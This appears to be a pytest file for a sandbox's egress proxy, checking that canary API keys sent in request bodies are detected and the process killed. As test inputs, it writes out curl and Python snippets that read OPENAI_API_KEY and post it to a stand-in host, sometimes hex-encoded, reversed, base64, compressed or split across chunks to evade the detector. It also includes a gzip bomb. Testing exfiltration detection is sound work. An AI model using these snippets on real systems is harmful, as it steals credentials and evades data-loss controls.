"""Canary tokens in request BODIES leaving through the egress proxy (issue
10, docs/tripwires.md "canary_output and exfil"): plain, chunked, gzip and
deflate bodies, split across writes and chunks, encoded; through the
explicit proxy (port 3128) and the transparent path; by real clients (curl,
python). A hit is an `exfil` record (where: body...) and the default rule
kills; the capturing server proves the body never arrived whole. A gzip
bomb is refused at a bound and recorded; benign bodies pass unchanged.

The server is a capturing listener on the host's loopback (127.0.0.9)."""
import re
import socket
import threading
import time

import pytest

from conftest import log_records

pytestmark = pytest.mark.usefixtures("airlock_works")

SINK = "127.0.0.9"
TOKEN_SH = 't=$(printf "%s" "$OPENAI_API_KEY" | cut -c9-); '


class Capture:
    """Reads each request (Content-Length or chunked body), records the raw
    bytes per connection, answers 200 with the body's length, closes."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((SINK, 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.conns = []
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            buf = bytearray()
            self.conns.append(buf)
            threading.Thread(target=self._serve, args=(c, buf), daemon=True).start()

    def _serve(self, c, buf):
        c.settimeout(10)
        try:
            while b"\r\n\r\n" not in buf:
                d = c.recv(65536)
                if not d:
                    return
                buf += d
            head, _, body = bytes(buf).partition(b"\r\n\r\n")
            m = re.search(rb"(?i)\r\ncontent-length:\s*(\d+)", head)
            chunked = re.search(rb"(?i)\r\ntransfer-encoding:\s*chunked", head)
            while True:
                if m and len(body) >= int(m.group(1)):
                    break
                if chunked and body.endswith(b"0\r\n\r\n"):
                    break
                if not m and not chunked:
                    break
                d = c.recv(65536)
                if not d:
                    return
                buf += d
                body += d
            reply = b"got %d" % len(body)
            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s"
                      % (len(reply), reply))
        except OSError:
            pass
        finally:
            c.close()

    def received(self):
        return b"".join(bytes(b) for b in self.conns)


@pytest.fixture(scope="module")
def sink():
    s = Capture()
    yield s
    s.sock.close()


def spec(sink):
    return ("canaries:\n  - {kind: env}\n"
            "network:\n  mode: proxy\n  allow_domains: [sink.test]\n"
            f"  hosts: {{sink.test: {SINK}}}\n  allow_cidr: ['{SINK}']\n"
            f"  allow_ports: [{sink.port}]\n")


def recs(log, t):
    return [r for r in log_records(log) if r.get("type") == t]


def run(airlock, tmp_path, sink, script, extra_spec=""):
    log = tmp_path / "run.jsonl"
    sp = tmp_path / "spec.yaml"
    sp.write_text(spec(sink) + extra_spec)
    res = airlock.run("run", *airlock.extra, "--log", log, "--spec", sp, "--",
                      "/bin/sh", "-c", script, timeout=120)
    if res.rc == 125 and b"proxy" in res.stderr:
        pytest.skip("proxy mode unavailable here: " + res.stderr.decode()[-300:])
    return res, log


def url(sink, path="/up"):
    return f"http://sink.test:{sink.port}{path}"


# python clients: the token from the environment, sent in various shapes
PY = r'''
import gzip, os, socket, sys, time, urllib.request, zlib, base64
t = os.environ["OPENAI_API_KEY"][8:]
how, url = sys.argv[1], sys.argv[2]
body = ("k=" + t + "&end=1").encode()
hdr = {}
if how == "gzip":
    body = gzip.compress(b"row,ok\n" * 2000 + body)
    hdr["Content-Encoding"] = "gzip"
elif how == "deflate":
    body = zlib.compress(b"row,ok\n" * 2000 + body)
    hdr["Content-Encoding"] = "deflate"
elif how == "b64":
    body = b"d=" + base64.b64encode(b"xy" + body)
elif how == "b64mime":  # wrapped at 20 columns, CRLF, like MIME/PEM
    e = base64.b64encode(b"xy" + body)
    body = b"\r\n".join(e[i:i + 20] for i in range(0, len(e), 20))
if how in ("gzip", "deflate", "b64", "b64mime", "plain"):
    proxies = {} if os.environ.get("DIRECT") else None
    op = urllib.request.build_opener(urllib.request.ProxyHandler(proxies)) if proxies == {} \
        else urllib.request.build_opener()
    try:
        print(op.open(urllib.request.Request(url, data=body, headers=hdr), timeout=5).read())
    except Exception as e:
        print("error", e)
elif how == "split":
    # chunked, the token cut across two chunks sent 0.3 s apart, explicit proxy
    host = url.split("/")[2]
    s = socket.create_connection(("127.0.0.1", 3128), 5)
    a, b = body[:9], body[9:]
    s.sendall(b"POST " + url.encode() + b" HTTP/1.1\r\nHost: " + host.encode()
              + b"\r\nTransfer-Encoding: chunked\r\n\r\n" + b"%x\r\n" % len(a) + a + b"\r\n")
    time.sleep(0.3)
    s.sendall(b"%x\r\n" % len(b) + b + b"\r\n0\r\n\r\n")
    print(s.recv(200))
elif how == "bomb":
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\0" * (1 << 20)
    body = b"".join(z.compress(chunk) for _ in range(100)) + z.flush()
    req = urllib.request.Request(url, data=body, headers={"Content-Encoding": "gzip"})
    try:
        print("bomb", urllib.request.build_opener().open(req, timeout=10).read())
    except Exception as e:
        print("bomb refused", e)
    # the proxy is still there
    print(urllib.request.build_opener().open(
        urllib.request.Request(url, data=b"hello"), timeout=5).read())
'''


def py(how, sink, direct=False):
    src = PY.replace("'", "'\"'\"'")
    env = "DIRECT=1 " if direct else ""
    return f"{env}python3 -c '{src}' {how} {url(sink)}"


def assert_exfil_kill(res, log, where, encoding, proto=None):
    assert res.rc == 123, res.describe()
    ex = recs(log, "exfil")
    assert ex, res.describe()
    assert ex[0]["channel"] == "request" and ex[0]["where"] == where, ex
    assert ex[0]["encoding"].startswith(encoding) and ex[0]["kind"] == "env", ex
    if proto:
        assert ex[0]["proto"] == proto, ex
    fired = recs(log, "rule_fired")
    assert fired and fired[0]["event"] == "exfil" and fired[0]["action"] == "kill", fired
    assert recs(log, "run_end")[0]["verdict"] == "policy"
    assert b"after" not in res.stdout


def assert_never_arrived(sink, before):
    """the token's request never arrived whole: the part after it is absent"""
    got = sink.received()[before:]
    assert b"&end=1" not in got, got[-300:]
    assert not re.search(rb"k=[A-Za-z0-9]{40}", got), got[-300:]


@pytest.mark.parametrize("script,where,encoding,proto", [
    # curl, explicit proxy, Content-Length body
    (TOKEN_SH + 'curl -s -m 5 -x http://127.0.0.1:3128 --data "k=$t&end=1" URL', "body",
     "plain", "http"),
    # curl, chunked body (explicit proxy)
    (TOKEN_SH + 'printf "k=%s&end=1" "$t" > /tmp/b; curl -s -m 5 -x http://127.0.0.1:3128 '
     '-H "Transfer-Encoding: chunked" --data-binary @/tmp/b URL', "body", "plain", "http"),
    # curl, hex in the body, transparent path (no proxy)
    (TOKEN_SH + 'h=$(printf "%s" "$t" | od -An -tx1 | tr -d " \\n"); '
     'curl -s -m 5 --noproxy "*" --data "h=$h&end=1" URL', "body", "hex", "transparent"),
    # curl, reversed, transparent
    (TOKEN_SH + 'r=$(printf "%s" "$t" | rev); curl -s -m 5 --noproxy "*" --data "r=$r&end=1" URL',
     "body", "reversed", "transparent"),
])
def test_token_in_body_kills_curl(airlock, tmp_path, sink, script, where, encoding, proto):
    before = len(sink.received())
    res, log = run(airlock, tmp_path, sink, script.replace("URL", url(sink)) + "; sleep 3; echo after")
    assert_exfil_kill(res, log, where, encoding, proto)
    assert_never_arrived(sink, before)


@pytest.mark.parametrize("how,direct,where,encoding,proto", [
    ("gzip", False, "body-gzip", "plain", "http"),        # urllib, HTTP_PROXY
    ("gzip", True, "body-gzip", "plain", "transparent"),  # urllib, no proxy
    ("deflate", False, "body-deflate", "plain", "http"),
    ("deflate", True, "body-deflate", "plain", "transparent"),
    ("b64", True, "body", "base64", "transparent"),
    ("b64mime", False, "body", "base64", "http"),
    ("split", False, "body", "plain", "http"),            # across chunks and writes
])
def test_token_in_body_kills_python(airlock, tmp_path, sink, how, direct, where, encoding, proto):
    before = len(sink.received())
    res, log = run(airlock, tmp_path, sink, py(how, sink, direct) + "; sleep 3; echo after")
    assert_exfil_kill(res, log, where, encoding, proto)
    if how != "split":  # (split: the first chunk, before the token's end, may have left)
        assert_never_arrived(sink, before)
    else:
        assert b"&end=1" not in sink.received()[before:]


def test_gzip_bomb_refused_and_recorded(airlock, tmp_path, sink):
    res, log = run(airlock, tmp_path, sink, py("bomb", sink))
    assert res.rc == 0, res.describe()
    out = res.stdout.decode()
    assert "bomb refused" in out, out
    assert "got 5" in out, out  # the proxy is alive and relays the next request
    errs = [e for e in recs(log, "net_error") if "exfil-scan" in e.get("reason", "")]
    assert errs and "inflated body over the bound" in errs[0]["reason"], recs(log, "net_error")
    assert not recs(log, "kill")


def test_benign_bodies_pass_whole(airlock, tmp_path, sink):
    before = len(sink.received())
    script = ('head -c 300000 /dev/urandom | base64 -w 76 > /tmp/big; '
              'curl -s -m 10 -x http://127.0.0.1:3128 --data-binary @/tmp/big URL; echo; '
              'curl -s -m 10 --noproxy "*" --data-binary @/tmp/big URL; echo; '
              'gzip -c /tmp/big > /tmp/big.gz; curl -s -m 10 --noproxy "*" '
              '-H "Content-Encoding: gzip" --data-binary @/tmp/big.gz URL; echo')
    res, log = run(airlock, tmp_path, sink, script.replace("URL", url(sink)))
    assert res.rc == 0, res.describe()
    lines = res.stdout.decode().split()
    assert lines[0] == "got" and lines[2] == "got" and lines[4] == "got", lines
    assert lines[1] == lines[3], lines  # the same body, whole, both ways
    assert not recs(log, "exfil") and not recs(log, "kill")
    assert len(sink.received()) - before > 2 * 300000


# a raw (not HTTP, not TLS) stream through CONNECT, after a forwarded request
# on the same client connection: searched as a stream of its own
TUNNEL_PY = r'''
import os, socket, sys, time
t = os.environ["OPENAI_API_KEY"][8:]
port = sys.argv[1]
host = ("sink.test:" + port).encode()
s = socket.create_connection(("127.0.0.1", 3128), 5)
s.sendall(b"POST http://" + host + b"/a HTTP/1.1\r\nHost: " + host + b"\r\nContent-Length: 2\r\n\r\nhi")
buf = b""
while b"got 2" not in buf:
    d = s.recv(4096)
    if not d:
        break
    buf += d
print("first", b"got 2" in buf, flush=True)
s.sendall(b"CONNECT " + host + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n")
print(s.recv(100)[:12], flush=True)
s.sendall(b"HELO a raw protocol\r\n")
time.sleep(0.3)
s.sendall(b"DATA " + t[:15].encode())
time.sleep(0.3)
s.sendall(t[15:].encode() + b" end=1\r\n\r\n")
time.sleep(3)
print("after")
'''


def test_raw_stream_through_connect_after_a_forwarded_request(airlock, tmp_path, sink):
    before = len(sink.received())
    src = TUNNEL_PY.replace("'", "'\"'\"'")
    res, log = run(airlock, tmp_path, sink, f"python3 -c '{src}' {sink.port}")
    assert b"first True" in res.stdout, res.describe()
    assert_exfil_kill(res, log, "stream", "plain", "https-connect")
    assert b"end=1" not in sink.received()[before:]
